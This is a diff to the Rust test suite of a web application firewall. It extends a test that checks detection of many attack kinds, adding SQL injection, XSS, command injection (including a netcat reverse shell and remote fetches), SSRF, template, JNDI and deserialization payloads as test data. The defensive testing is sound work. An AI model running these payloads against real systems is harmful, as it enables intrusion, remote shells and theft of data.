@@ -3,7 +3,10 @@
 use std::{net::IpAddr, sync::Arc};
 
 use super::{super::*, rule_names};
-use crate::settings::waf::{Exclusion, Mode, Parameter, RuleMatch, Settings};
+use crate::{
+    file::seed,
+    settings::waf::{Exclusion, Mode, Parameter, RuleMatch, Settings},
+};
 
 mod benign;
 mod bodies;
@@ -23,6 +26,8 @@ fn settings() -> Settings {
 }
 
 fn judge(settings: Settings, target: &str, headers: &[(&str, &str)], body: impl AsRef<[u8]>) -> WafVerdict {
+    let content_type = headers.iter().find(|(name, _)| *name == "content-type").map_or("", |(_, value)| *value);
+    seed(&[content_type.as_bytes(), b"\n", target.as_bytes(), b"\n", body.as_ref()].concat());
     let waf = Waf::new(Arc::new(Rules::new(&settings, None).unwrap()), Some("items"), None);
     let headers: Vec<_> = headers.iter().map(|(name, value)| (*name, value.as_bytes())).collect();
     waf.judge(&Request {
@@ -69,6 +74,13 @@ fn every_kind_of_attack_is_found() {
             "sql_injection",
             &[
                 "1' or '1'='1",
+                "(SELECT (CASE WHEN (7364=7364) THEN 1 ELSE 1/(SELECT 0) END))",
+                "1' (CASE 7364 WHEN 7364 THEN SLEEP(5) ELSE NULL END)",
+                "1 AND GTID_SUBSET(CONCAT('q',(SELECT 1)),1)",
+                "1 (SELECT 'q'||(SELECT 1)::text||'x')",
+                "1 (7364=7364)*1",
+                ");waitfor/**/delay/**/'0:0:5'--1",
+                "1`,sleep(5)#1",
                 "1 UNION SELECT a,b FROM users--",
                 "x'; DROP TABLE users--",
                 "1 and sleep(5)",
@@ -92,6 +104,18 @@ fn every_kind_of_attack_is_found() {
                 "1;delete from users",
                 "1;select top 1 * from users",
                 "john doe'--",
+                "it's a text' or pw is null -- and more",
+                "' or data->>'role'='admin",
+                "1 or '{\"a\":1}'::jsonb <@ '{}'::jsonb",
+                "' or json_valid('x')#",
+                "1 and pw>0x61",
+                "1 union values(1,2)",
+                "1; create table x(y text)",
+                "x' on duplicate key update pw='x'#",
+                "' or not false -- ",
+                "1'\u{a0}or\u{a0}1=1--",
+                "1 and gtid_subset(user(),1)",
+                "x' procedure analyse(1)",
             ][..],
         ),
         (
@@ -101,6 +125,9 @@ fn every_kind_of_attack_is_found() {
                 "\"><img src=x onerror=alert(1)>",
                 "javascript:alert(document.cookie)",
                 "data:text/plain;base64,PHNjcmlwdD5hPC9zY3JpcHQ+",
+                "data:text/plain;BASE64 ,PHNjcmlwdD5hPC9zY3JpcHQ+",
+                "data:image/png;base64,AAAA data:text/plain;base64,PHNjcmlwdD5hPC9zY3JpcHQ+",
+                "data:application/xhtml+xml,<x/>",
                 "x onerror=alert(1)",
                 "x onfocus=location=name autofocus",
                 "1 onmouseover=location=name",
@@ -120,6 +147,8 @@ fn every_kind_of_attack_is_found() {
                 "/.//././secret",
                 "./././secret",
                 "/..{file}",
+                "..\u{2215}..\u{2044}x",
+                "..\r/x",
             ],
         ),
         (
@@ -131,14 +160,29 @@ fn every_kind_of_attack_is_found() {
                 "C:\\windows\\system32\\drivers",
                 "..etcpasswd",
                 "c:windowswin.ini",
+                ".env",
+                "/etc/resolv.conf",
             ],
         ),
         ("null_byte", &["image.php\0.png"]),
-        ("header_injection", &["x\r\nSet-Cookie: a=b", "x\r\n\r\nHTTP/1.1 200 OK"]),
+        (
+            "header_injection",
+            &[
+                "x\r\nSet-Cookie: a=b",
+                "x\r\n\r\nHTTP/1.1 200 OK",
+                "x\nLocation: https://x.example",
+                "x\r\nWWW-Authenticate: Basic",
+                "a@b.example\nCc: x@y.example",
+                "x\r\nFLUSHALL\r\n",
+            ],
+        ),
         (
             "command_injection",
             &[
                 "; cat /etc/hosts",
+                "';exit(md5('a'));//",
+                "\".print(md5('a'));#",
+                "a;env;",
                 "$(whoami)",
                 "| nc -e /bin/sh 192.0.2.1 1",
                 "`id`",
@@ -157,6 +201,17 @@ fn every_kind_of_attack_is_found() {
                 "a; un\"\"ame$IFS-a",
                 "a;ca$@t /x",
                 "a\nwg''et http://x",
+                "a `id`",
+                "x=`id`",
+                "; /b?n/c?t /x",
+                "; w$()hoami",
+                "; rev<<<'di'",
+                "x; ssh -V; ssh a@b",
+                "|timeout 5",
+                "& mshta http://x",
+                "; eval id",
+                "--upload-pack=id",
+                "=cmd|' /C calc'!A0",
             ],
         ),
         (
@@ -170,9 +225,26 @@ fn every_kind_of_attack_is_found() {
                 "x.__init__.__globals__",
                 "__class__",
                 "request|attr(\"__init__\")",
+                "constructor.constructor('return process')()",
+                "getattr(os,'system')('id')",
+                "System.Diagnostics.Process.Start('cmd')",
             ],
         ),
-        ("template_injection", &["{{7*7}}", "${7*7}", "<%= 7*7 %>", "{{config.items()}}", "#{7*7}"]),
+        (
+            "template_injection",
+            &[
+                "{{7*7}}",
+                "${7*7}",
+                "<%= 7*7 %>",
+                "{{config.items()}}",
+                "#{7*7}",
+                "{{8/2}}",
+                "{{'a'.toUpperCase()}}",
+                "{{[0]|reduce('system','id')}}",
+                "{{printf \"%s\" .}}",
+                "[#assign x=1]",
+            ],
+        ),
         (
             "expression_injection",
             &[
@@ -181,11 +253,17 @@ fn every_kind_of_attack_is_found() {
                 "%{#context['x']}",
                 "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
                 "T(java.lang.Runtime).getRuntime().exec('x')",
+                "java.util.Scanner",
+                "${j${}ndi:ldap://x}",
+                "${bundle:x:y}",
+                "(#cmd='id')",
+                "'id'.execute()",
             ],
         ),
         (
             "nosql_injection",
             &[
+                "{\"$lookup\":{\"from\":\"users\"}}",
                 "{\"$gt\": \"\"}",
                 "{$ne: 1}",
                 "{$in: ['a']}",
@@ -195,8 +273,11 @@ fn every_kind_of_attack_is_found() {
                 "' || this.password.match(/a/)",
             ],
         ),
-        ("ldap_injection", &["*)(uid=*))(|(uid=*", "admin)(&(password=*))"]),
-        ("xpath_injection", &["' or count(/user)=1", "x'] | //user/*"]),
+        ("ldap_injection", &["*)(uid=*))(|(uid=*", "admin)(&(password=*))", "(objectClass=*)"]),
+        (
+            "xpath_injection",
+            &["' or count(/user)=1", "x'] | //user/*", "' or true() or '", "doc-available('http://x')"],
+        ),
         (
             "ssrf",
             &[
@@ -205,6 +286,20 @@ fn every_kind_of_attack_is_found() {
                 "gopher://127.0.0.1:6379/_x",
                 "http://[::1]/",
                 "http://2130706433/",
+                "http://127.0.0.1@x.example/ http://10.0.0.1/",
+                "https://x.example,http://127.0.0.1/",
+                "https://x.example/?next=http://localhost:8080/",
+                "[\"https://x.example\",\"http://192.168.0.1/\"]",
+                "https://x.example;gopher://x/",
+                "http:\\\\127.0.0.1\\admin",
+                "//localhost/",
+                "http://x.example#@127.0.0.1/",
+                "http://0x7f.1/",
+                "http://169.254.43518/",
+                "http://\u{24db}ocalhost/",
+                "http://vault:8200/",
+                "dAta:text/plain,x",
+                "view-source:http://127.0.0.1/",
             ],
         ),
         (
@@ -215,10 +310,17 @@ fn every_kind_of_attack_is_found() {
                 "!!python/object/apply:os.system",
                 "com.sun.rowset.JdbcRowSetImpl",
                 "org.apache.xalan.xsltc.trax.TemplatesImpl",
+                "aced0005737200",
+                "gAN4cQBjb3MKc3lzdGVtCnEBWAIAAABpZC4=",
+                "BAhJIgZhBjoGRVQ=",
+                "{\"py/object\":\"os.system\"}",
             ],
         ),
         ("xxe", &["<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"]),
-        ("prototype_pollution", &["{\"__proto__\":{\"admin\":true}}"]),
+        (
+            "prototype_pollution",
+            &["{\"__proto__\":{\"admin\":true}}", "x['constructor']['prototype']", "__pro__proto__to__[x]"],
+        ),
     ] {
         for value in values {
             found(rule, value);
@@ -389,12 +491,4 @@ fn hostile_requests_take_bounded_work() {
     }
     let verdict = judge(settings(), &format!("/a?{}=../../x", "n\u{7f}".repeat(1_000)), &[], "");
     assert!(verdict.detail().len() < 256, "{}", verdict.detail());
-}
-
-#[test]
-fn the_page_explains_every_rule() {
-    let page = include_str!("../../../../../docs/waf.md");
-    for name in rule_names() {
-        assert!(page.contains(&format!("`{name}`")), "docs/waf.md lacks {name}");
-    }
 }
